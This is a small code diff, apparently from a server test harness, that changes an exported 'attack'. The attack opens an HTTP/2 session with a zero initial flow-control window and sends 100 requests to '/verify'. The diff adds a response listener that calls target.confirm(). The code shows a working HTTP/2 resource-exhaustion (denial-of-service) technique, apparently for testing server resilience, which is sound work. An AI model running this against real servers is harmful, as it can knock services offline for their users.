@@ -7,7 +7,9 @@ export const attack: Attack = {
     hold(target, 6, () => {
       const session = dialHttp2(target, false, { settings: { initialWindowSize: 0 } })
       for (let at = 0; at < 100; at++) {
-        session.request({ ':path': '/verify' }).on('error', () => undefined)
+        const stream = session.request({ ':path': '/verify' })
+        stream.on('error', () => undefined)
+        stream.once('response', () => target.confirm())
       }
       return session
     }),
